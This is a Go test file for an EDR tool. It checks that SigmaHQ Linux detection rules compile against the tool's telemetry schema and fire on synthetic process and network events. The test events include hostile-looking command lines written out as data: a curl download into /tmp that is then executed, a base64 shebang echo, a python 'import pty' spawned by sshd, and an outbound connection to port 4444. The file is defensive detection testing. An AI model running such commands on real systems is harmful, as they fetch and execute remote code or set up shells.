package fieldmap

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mamori-edr/mamori/internal/detect/sigma"
	"github.com/mamori-edr/mamori/internal/schema"
)

const sharedSigma = "../../../../shared/testdata/sigma"

// minEvaluable is the evaluable count this mapping reached; raise it as
// telemetry grows.
const minEvaluable = 178

func opts() sigma.CompileOptions {
	return sigma.CompileOptions{FieldMap: Field, Keywords: Keywords}
}

func execEvent(exe string, args []string, parentExe string, parentArgs []string) *schema.Event {
	return &schema.Event{Schema: schema.Version, Type: schema.ProcessExec, Time: time.Now(),
		Process: &schema.Process{EntityID: "b:100:1", PID: 100, PPID: 99, ParentEntityID: "b:99:1", Exe: exe, Args: args,
			Name: filepath.Base(exe), Cwd: "/tmp", User: "root", SessionID: 7, LoginUID: 1000,
			Hash: &schema.FileHash{SHA256: "ab12", MD5: "cd34", Status: "ok"}},
		Parent: &schema.Ancestor{EntityID: "b:99:1", PID: 99, Exe: parentExe, Args: parentArgs}}
}

// matches compiles rule text and reports whether ev fires it on any of its
// logsource views.
func matches(t *testing.T, rule string, ev *schema.Event) bool {
	t.Helper()
	r, err := sigma.ParseRule([]byte(rule))
	if err != nil {
		t.Fatal(err)
	}
	m, err := sigma.Compile(r, opts())
	if err != nil {
		t.Fatal(err)
	}
	want := KindOf(r.LogSource)
	for _, tg := range ForEvent(ev) {
		if tg.Kind == want && m.Match(tg.Event) {
			return true
		}
	}
	return false
}

func TestSigmaHQRulesFire(t *testing.T) {
	if _, err := os.Stat(sharedSigma); err != nil {
		t.Skipf("shared Sigma rules not present: %v", err)
	}
	read := func(t *testing.T, p string) string {
		b, err := os.ReadFile(filepath.Join(sharedSigma, p))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	for _, tc := range []struct {
		rule string
		ev   *schema.Event
		want bool
	}{
		{"rules/linux/process_creation/proc_creation_lnx_curl_wget_exec_tmp.yml",
			execEvent("/usr/bin/sh", []string{"sh", "-c", "/usr/bin/curl http://x/a -o /tmp/a; sh -c /tmp/a"}, "/usr/sbin/nginx", nil), true},
		{"rules/linux/process_creation/proc_creation_lnx_curl_wget_exec_tmp.yml",
			execEvent("/usr/bin/curl", []string{"curl", "https://example.org/"}, "/bin/bash", nil), false},
		{"rules/linux/process_creation/proc_creation_lnx_base64_shebang_cli.yml",
			execEvent("/usr/bin/echo", []string{"echo", "IyEvYmluL2Jhc2gKaWQ="}, "/bin/bash", nil), true},
		{"rules/linux/auditd/execve/lnx_auditd_binary_padding.yml",
			execEvent("/usr/bin/truncate", []string{"truncate", "-s", "+1M", "/tmp/bin"}, "/bin/bash", nil), true},
		{"rules/linux/auditd/execve/lnx_auditd_binary_padding.yml",
			execEvent("/usr/bin/dd", []string{"dd", "if=/dev/zero", "of=/tmp/x"}, "/bin/bash", nil), false},
	} {
		t.Run(filepath.Base(tc.rule), func(t *testing.T) {
			if got := matches(t, read(t, tc.rule), tc.ev); got != tc.want {
				t.Errorf("match = %v, want %v for %v", got, tc.want, tc.ev.Process.Args)
			}
		})
	}
}

func TestFields(t *testing.T) {
	ev := execEvent("/usr/bin/python3", []string{"python3", "-c", "import pty"}, "/usr/sbin/sshd", []string{"sshd:", "root"})
	rule := `
title: t
logsource: {category: process_creation, product: linux}
detection:
  sel:
    Image|endswith: /python3
    ParentImage: /usr/sbin/sshd
    ParentCommandLine|startswith: 'sshd:'
    CommandLine|contains: pty
    CurrentDirectory: /tmp
    User: root
    LogonId: 7
    ProcessId: 100
    ParentProcessId: 99
    Hashes|contains: 'SHA256=AB12'
    sha256: ab12
  condition: sel
`
	if !matches(t, rule, ev) {
		t.Error("every process_creation field together did not match")
	}
	audit := `
title: t
logsource: {product: linux, service: auditd}
detection:
  sel:
    type: EXECVE
    a0: python3
    a1: '-c'
    argc: 3
    auid: 1000
    syscall: execve
  kw:
    - 'import pty'
  condition: sel and kw
`
	if !matches(t, audit, ev) {
		t.Error("auditd EXECVE view did not match")
	}
	conn := &schema.Event{Type: schema.NetworkConnect, Process: ev.Process,
		Network: &schema.Network{Family: "ipv6", Protocol: "tcp", Direction: "outbound", SrcIP: "::1", SrcPort: 40000, DstIP: "::1", DstPort: 4444}}
	net := `
title: t
logsource: {category: network_connection, product: linux}
detection:
  sel:
    Initiated: 'true'
    DestinationPort: 4444
    DestinationIsIpv6: 'true'
    Image|endswith: python3
  condition: sel
`
	if !matches(t, net, conn) {
		t.Error("network_connection view did not match")
	}
	acc := *conn
	acc.Type = schema.NetworkAccept
	if matches(t, net, &acc) {
		t.Error("an accepted connection matched Initiated: 'true'")
	}
}

func TestUnmappedReported(t *testing.T) {
	for _, tc := range []struct {
		rule, field, reason string
	}{
		{`{title: t, logsource: {category: file_event, product: linux}, detection: {s: {TargetFilename: /etc/x}, condition: s}}`, "TargetFilename", "file events"},
		{`{title: t, logsource: {category: network_connection, product: linux}, detection: {s: {DestinationHostname: x}, condition: s}}`, "DestinationHostname", "DNS"},
		{`{title: t, logsource: {product: linux, service: auditd}, detection: {s: {type: PATH, name: /etc/shadow}, condition: s}}`, "name", "PATH"},
		{`{title: t, logsource: {category: process_creation, product: linux}, detection: {s: {OriginalFileName: x}, condition: s}}`, "OriginalFileName", "not recorded"},
		{`{title: t, logsource: {category: process_creation, product: windows}, detection: {s: {Image: x}, condition: s}}`, "Image", "not a Linux"},
	} {
		r, err := sigma.ParseRule([]byte(tc.rule))
		if err != nil {
			t.Fatal(err)
		}
		_, err = sigma.Compile(r, opts())
		var u *sigma.UnmappedFieldError
		if !errors.As(err, &u) || u.Field != tc.field || !strings.Contains(err.Error(), tc.reason) {
			t.Errorf("%s: err = %v, want unmapped %s (%s)", tc.rule, err, tc.field, tc.reason)
		}
	}
	r, _ := sigma.ParseRule([]byte(`{title: t, logsource: {product: linux, service: sshd}, detection: {kw: [error], condition: kw}}`))
	if _, err := sigma.Compile(r, opts()); err == nil || !strings.Contains(err.Error(), "not shipped") {
		t.Errorf("keyword rule over sshd logs: %v", err)
	}
}

// The load report over SigmaHQ's Linux set, as `mamori rules check` prints
// it: counts are asserted so that coverage only goes up.
func TestSigmaHQCoverage(t *testing.T) {
	if _, err := os.Stat(sharedSigma); err != nil {
		t.Skipf("shared Sigma rules not present: %v", err)
	}
	rules, errs := sigma.LoadDir(sharedSigma)
	rep := sigma.Report(rules, errs, opts())
	t.Logf("\n%s", rep.String())
	if rep.Failed != 0 || rep.Parsed != 260 {
		t.Errorf("parsed %d, failed %d: want all 260 parsed", rep.Parsed, rep.Failed)
	}
	if rep.Compiled < minEvaluable {
		t.Errorf("evaluable %d of %d detections, want at least %d (no regression)", rep.Compiled, rep.Detections, minEvaluable)
	}
}
